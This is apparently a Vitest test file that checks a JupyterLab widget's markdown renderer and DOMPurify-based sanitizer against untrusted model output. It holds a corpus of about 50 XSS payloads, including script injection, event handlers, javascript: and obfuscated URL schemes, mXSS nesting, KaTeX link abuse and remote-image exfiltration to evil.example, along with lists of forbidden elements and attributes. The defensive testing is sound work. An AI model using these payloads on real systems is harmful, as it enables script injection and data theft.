// @vitest-environment jsdom
/**
 * Model output is untrusted (prompt injection; a transcript restored from a saved notebook). An XSS in the
 * widget runs with the JupyterLab origin's access to the kernel and files (docs/notebook-facts.md §9).
 * Every vector must leave no executable element or attribute, no unsafe URL, nothing that loads a remote
 * resource by itself, and its text must stay visible.
 */
import { describe, expect, it } from "vitest";
import { IncrementalRenderer, renderFull } from "./markdown";
import { sanitizeHtml } from "./sanitize";

/** [name, markdown, text that must remain visible] */
const VECTORS: Array<[string, string, string]> = [
  ["script tag", "<script>alert(1)</script>", "alert(1)"],
  ["img onerror", "<img src=x onerror=alert(1)>", "onerror=alert(1)"],
  ["iframe javascript", '<iframe src="javascript:alert(1)"></iframe>', "iframe"],
  ["svg onload", "<svg onload=alert(1)><circle r=1/></svg>", "onload"],
  ["math mXSS", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "mglyph"],
  ["details ontoggle", "<details open ontoggle=alert(1)>x</details>", "ontoggle"],
  ["object data", '<object data="javascript:alert(1)"></object>', "object"],
  ["embed", '<embed src="https://evil.example/x.swf">', "embed"],
  ["form", '<form action="https://evil.example"><input name=x></form>', "form"],
  ["meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">', "refresh"],
  ["base href", '<base href="https://evil.example/">', "base"],
  ["link stylesheet", "<link rel=stylesheet href=https://evil.example/x.css>", "stylesheet"],
  ["style element", "<style>body{background:url(https://evil.example/x)}</style>", "background"],
  ["style attribute", '<div style="background:url(https://evil.example/x)">styled</div>', "styled"],
  ["raw anchor", '<a href="javascript:alert(1)">x</a>', "javascript:alert(1)"],
  ["broken tag", '<a/href="javascript:alert(1)">broken</a', "broken"],
  ["nested script", "<<script>script>alert(1)<</script>/script>", "alert(1)"],
  ["split script", "<scr<script>ipt>alert(1)</script>", "alert(1)"],
  ["md javascript link", "[click](javascript:alert(1))", "click"],
  ["md mixed case", "[click](JaVaScRiPt:alert(1))", "click"],
  ["md decimal entity", "[click](&#106;avascript:alert(1))", "click"],
  ["md hex entities", "[click](&#x6A;&#x61;vascript:alert(1))", "click"],
  ["md entity tab", "[click](java&#x09;script:alert(1))", "click"],
  ["md newline entity", "[click](java&#10;script:alert(1))", "click"],
  ["md angle spaces", "[click](<java script:alert(1)>)", "click"],
  ["md leading space", "[click]( javascript:alert(1))", "click"],
  ["md vbscript", "[click](vbscript:msgbox(1))", "click"],
  ["md data html", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "click"],
  ["md DATA upper", "[click](DATA:text/html,hi)", "click"],
  ["md file", "[click](file:///etc/passwd)", "click"],
  ["md protocol-relative", "[click](//evil.example)", "click"],
  ["autolink javascript", "<javascript:alert(1)>", "javascript:alert(1)"],
  ["title breakout", '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")', "x"],
  ["href breakout", '[x](https://ok.example/"onmouseover="alert(1))', "x"],
  ["remote image", "![secret](https://evil.example/p.png?q=secret)", "secret"],
  ["image javascript", "![pic](javascript:alert(1))", "pic"],
  ["image data svg", "![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", "pic"],
  ["image protocol-relative", "![pic](//evil.example/p.png)", "pic"],
  ["raw img remote", '<img src="https://evil.example/x.png">', "evil.example"],
  ["fence with html", "```html\n<script>alert(1)</script>\n```", "<script>alert(1)</script>"],
  ["fence info injection", '```js" onmouseover="alert(1)\nlet x = 1\n```', "let x = 1"],
  ["inline code html", "`<img src=x onerror=alert(1)>`", "<img src=x onerror=alert(1)>"],
  ["entity-encoded html", "&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script>"],
  ["table payload", "| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n|---|---|\n| a | b |", "onerror"],
  ["list payload", "- <svg/onload=alert(1)>\n- [y](vbscript:x)", "onload"],
  ["katex href", "$\\href{javascript:alert(1)}{x}$", "x"],
  ["katex url", "$$\\url{javascript:alert(1)}$$", "url"],
  ["katex includegraphics", "$\\includegraphics{https://evil.example/x.png}$", "includegraphics"],
  ["katex htmlStyle", "$\\htmlStyle{background:url(https://evil.example)}{x}$", "htmlStyle"],
  ["svg xlink", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "xlink"],
  ["math href", '<math href="javascript:alert(1)"><mi>x</mi></math>', "href"],
];

const FORBIDDEN_ELEMENTS =
  "script, iframe, frame, object, embed, svg, style, form, input, textarea, select, img, video, audio, source, " +
  "link, meta, base, image, use, foreignObject, maction, annotation-xml";
const FORBIDDEN_ATTRIBUTES = ["style", "src", "srcset", "action", "formaction", "xlink:href", "background", "poster", "data", "ping"];
const SAFE_HREF = /^(?:https?:|mailto:|#)/i;

/** Every check a vector must pass, on a rendered container. */
function assertInert(el: HTMLElement, visible: string): void {
  expect(el.querySelector(FORBIDDEN_ELEMENTS)).toBeNull();
  for (const node of Array.from(el.querySelectorAll("*"))) {
    for (const attr of Array.from(node.attributes)) {
      expect(attr.name.toLowerCase().startsWith("on"), `${node.localName}[${attr.name}]`).toBe(false);
      expect(FORBIDDEN_ATTRIBUTES).not.toContain(attr.name.toLowerCase());
    }
    const href = node.getAttribute("href");
    if (href !== null) {
      expect(node.localName).toBe("a");
      expect(href).toMatch(SAFE_HREF);
      expect(node.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    }
    const dataSrc = node.getAttribute("data-src");
    if (dataSrc !== null) {
      expect(node.matches("button.ernie-image-blocked")).toBe(true);
      expect(dataSrc).toMatch(/^https?:\/\//);
    }
    // MathML only as KaTeX output.
    if (node.namespaceURI === "http://www.w3.org/1998/Math/MathML" && node.localName === "math") {
      expect(node.parentElement?.classList.contains("katex")).toBe(true);
    }
  }
  expect(el.textContent).toContain(visible);
}

function renderInto(html: string): HTMLElement {
  const el = document.createElement("div");
  el.innerHTML = html;
  return el;
}

describe("XSS corpus", () => {
  it("has at least 30 vectors", () => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(30);
  });

  it.each(VECTORS)("%s: one-shot render is inert", (_name, markdown, visible) => {
    assertInert(renderInto(renderFull(markdown)), visible);
  });

  it.each(VECTORS)("%s: streamed in 5-character chunks is inert", (_name, markdown, visible) => {
    const el = document.createElement("div");
    const r = new IncrementalRenderer(el, { schedule: (f) => f() });
    for (let i = 0; i < markdown.length; i += 5) {
      r.push(markdown.slice(i, i + 5));
      expect(el.querySelector(FORBIDDEN_ELEMENTS)).toBeNull();
      expect(el.querySelector("[href^='javascript' i], [onerror], [onload]")).toBeNull();
    }
    r.finish();
    assertInert(el, visible);
  });

  it("keeps the remote image as an inert placeholder with its alt text", () => {
    const el = renderInto(renderFull("![secret](https://evil.example/p.png?q=secret)"));
    expect(el.querySelector("button.ernie-image-blocked")?.textContent).toBe("secret");
  });
});

describe("DOMPurify second line (HTML the renderer should never produce)", () => {
  it.each([
    ['<a href="javascript:alert(1)">x</a>', "a:not([href])"],
    ['<a href="https://ok.example">x</a>', 'a[href="https://ok.example"][rel="noopener noreferrer nofollow"][target="_blank"]'],
    ['<a href="/relative">x</a>', "a:not([href])"],
    ['<button type="button" data-src="javascript:alert(1)">x</button>', "button:not([data-src])"],
    ['<span data-src="https://e.example/p.png">x</span>', "span:not([data-src])"],
    ['<p onclick="alert(1)" style="color:red">x</p>', "p:not([onclick]):not([style])"],
  ])("%s", (html, selector) => {
    const el = renderInto(sanitizeHtml(html));
    expect(el.querySelector(selector)).not.toBeNull();
  });

  it.each([
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<math><maction actiontype=statusline>x</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<style>*{}</style>",
    "<video><source src=https://evil.example/x.mp4></video>",
  ])("removes %s", (html) => {
    const el = renderInto(sanitizeHtml(html));
    expect(el.querySelector(FORBIDDEN_ELEMENTS)).toBeNull();
    expect(el.querySelector("[onerror], [formaction], [src], [srcdoc]")).toBeNull();
  });

  it("keeps KaTeX's MathML", () => {
    const html = '<span class="katex"><math xmlns="http://www.w3.org/1998/Math/MathML"><semantics><mrow><mi>x</mi></mrow><annotation encoding="application/x-tex">x</annotation></semantics></math></span>';
    expect(sanitizeHtml(html)).toBe(html);
  });
});
